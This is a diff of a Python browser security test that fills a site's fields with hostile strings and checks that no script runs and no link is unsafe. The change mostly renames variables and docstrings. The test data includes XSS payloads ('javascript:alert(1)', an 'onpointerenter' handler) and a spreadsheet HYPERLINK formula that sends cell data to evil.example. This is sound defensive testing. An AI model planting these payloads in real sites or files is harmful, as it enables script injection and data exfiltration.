@@ -1,4 +1,4 @@
-"""A site with hostile strings in all its texts, in a real browser: nothing runs, nothing leads astray."""
+"""A site with hostile strings in all its texts, in a real browser: no script runs, and no link is unsafe."""
 
 from __future__ import annotations
 
@@ -24,7 +24,7 @@ from tests.security.hostile_data import CASE, Spot, at, fields, is_free, places,
 
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("attacks-in-a-browser")]
 
-LOOKED_FOR = {
+SEARCHES = {
     "onpointerenter": "onpointerenter=alert(1)",
     "hashtag": "#hashtag",
     "javascript": "javascript:alert(1)",
@@ -32,7 +32,7 @@ LOOKED_FOR = {
     "hyperlink": '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
     "temp": "C:\\temp\\ny",
 }
-"""A word to search for, and a string that is then shown as text."""
+"""Search words, and the string that each search must show as text."""
 
 FOREIGN = """() => ({
   handlers: [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on'))),
@@ -46,29 +46,29 @@ FOREIGN = """() => ({
 
 OWN_SCRIPT = re.compile(r"^(?:[./]*|/ideslussar/)assets/js/(?:form/)?\w+\.js$")
 
-MADE_HERE = "blob:"
-"""What the form gives a person to save."""
+DOWNLOAD_SCHEME = "blob:"
+"""Scheme of the file that the form offers for download."""
 
-NEVER = {"img", "iframe", "object", "embed", "style", "base", "meta", "link", "marquee", "math", "video"}
-"""Elements that no page has in its body."""
+FORBIDDEN = {"img", "iframe", "object", "embed", "style", "base", "meta", "link", "marquee", "math", "video"}
+"""Elements that must not occur in the body of any page."""
 
 
 @dataclass
 class Walk:
-    """What was found on the way through all pages."""
+    """The results of visiting all pages."""
 
     dialogs: list[str] = field(default_factory=list)
     errors: list[str] = field(default_factory=list)
-    found: dict[str, Mapping[str, list[str]]] = field(default_factory=dict)
+    inspections: dict[str, Mapping[str, list[str]]] = field(default_factory=dict)
     text: str = ""
 
 
 def spread(folder: Path) -> dict[Spot, str]:
-    """Put every string that is accepted anywhere in some field, and return which stands where."""
+    """Put every string that some field accepts in a field, and return the string of each field."""
     data = whole()
     waiting = deque(dict.fromkeys(map(str.strip, EVERY)))
     kept: dict[Spot, str] = {}
-    # English is shown on one page, which search does not know of.
+    # Texts in English are shown on a single page, which search leaves out.
     free = (pattern for pattern, leaf in fields().items() if is_free(leaf) and not str(pattern[-1]).endswith("_en"))
     left = [spot for pattern in free for spot in spots(data, pattern)]
     for _ in range(8):
@@ -80,7 +80,7 @@ def spread(folder: Path) -> dict[Spot, str]:
         wrong = {where.get((Path(p.file).stem, p.line, p.column)) for p in mistakes(check(read(folder)))}
         for spot, text in turn.items():
             if spot in wrong:
-                # What one field refuses, another may take: a longer one, or one that is no name.
+                # A string that one field rejects may be accepted by another, such as a longer one.
                 waiting.append(text)
                 put(data, [spot], at(whole(), spot))
             else:
@@ -89,7 +89,7 @@ def spread(folder: Path) -> dict[Spot, str]:
         waiting.rotate(7)
     data[CASE]["examples"] += [
         {"title": text, "outcome": "idea", "text": "Ett exempel som står här.", "sources": ["forskning"]}
-        for text in LOOKED_FOR.values()
+        for text in SEARCHES.values()
     ]
     written(data, folder)
     return kept
@@ -97,7 +97,7 @@ def spread(folder: Path) -> dict[Spot, str]:
 
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, dict[Spot, str]]]:
-    """The built site, its address, and the strings that stand in it."""
+    """Yield the built site, its address, and the string of each field."""
     folder = tmp_path_factory.mktemp("hostile")
     cases = Path(shutil.copytree(SMALL, folder / "cases"))
     strings = spread(cases)
@@ -108,54 +108,54 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, st
 
 @pytest.fixture(scope="module")
 def walk(browser: Browser, hostile: tuple[Path, str, dict[Spot, str]]) -> Walk:
-    """Every page, opened once."""
+    """Visit every page once."""
     site, address, _ = hostile
     page = browser.new_page()
-    found = Walk(errors=watch(page))
+    results = Walk(errors=watch(page))
 
     def dismiss(dialog: Dialog) -> None:
-        found.dialogs.append(dialog.message)
+        results.dialogs.append(dialog.message)
         dialog.dismiss()
 
     page.on("dialog", dismiss)
     for path in paths_of(site):
         page.goto(address + path)
-        found.found[path] = page.evaluate(FOREIGN)
-        found.text += f" {page.title()} {page.locator('body').evaluate('e => e.textContent')}"
+        results.inspections[path] = page.evaluate(FOREIGN)
+        results.text += f" {page.title()} {page.locator('body').evaluate('e => e.textContent')}"
     page.close()
-    return found
+    return results
 
 
-def test_many_strings_of_all_kinds_stand_in_the_site(hostile: tuple[Path, str, dict[Spot, str]], walk: Walk) -> None:
-    # Some fields are on no page: the English name of an area, a retired record.
+def test_many_strings_are_shown_on_the_site(hostile: tuple[Path, str, dict[Spot, str]], walk: Walk) -> None:
+    # Some fields are not shown on any page, such as the English name of an area, or a retired record.
     shown = "".join(walk.text.split())
     assert len({text for text in hostile[2].values() if "".join(text.split()) in shown}) > 100
 
 
 def test_nothing_runs(walk: Walk) -> None:
     assert (walk.dialogs, walk.errors) == ([], [])
-    assert [path for path, found in walk.found.items() if found["handlers"]] == []
+    assert [path for path, inspection in walk.inspections.items() if inspection["handlers"]] == []
 
 
-def test_no_page_has_a_script_but_the_own_ones(walk: Walk) -> None:
-    scripts = {script for found in walk.found.values() for script in found["scripts"]}
+def test_no_page_has_foreign_scripts(walk: Walk) -> None:
+    scripts = {script for page in walk.inspections.values() for script in page["scripts"]}
     assert {script for script in scripts if not OWN_SCRIPT.match(script)} == set()
 
 
 def test_no_address_has_another_scheme(walk: Walk) -> None:
-    assert {scheme for found in walk.found.values() for scheme in found["schemes"]} <= {
+    assert {scheme for page in walk.inspections.values() for scheme in page["schemes"]} <= {
         "http:",
         "https:",
         "mailto:",
-        MADE_HERE,
+        DOWNLOAD_SCHEME,
     }
 
 
-def test_no_page_has_an_element_that_no_template_makes(walk: Walk) -> None:
-    assert {element for found in walk.found.values() for element in found["elements"]} & NEVER == set()
+def test_no_page_has_an_element_that_no_template_contains(walk: Walk) -> None:
+    assert {element for page in walk.inspections.values() for element in page["elements"]} & FORBIDDEN == set()
 
 
-@pytest.mark.parametrize(("word", "text"), LOOKED_FOR.items())
+@pytest.mark.parametrize(("word", "text"), SEARCHES.items())
 def test_search_shows_a_string_as_text(
     page: Page, hostile: tuple[Path, str, dict[Spot, str]], word: str, text: str
 ) -> None:
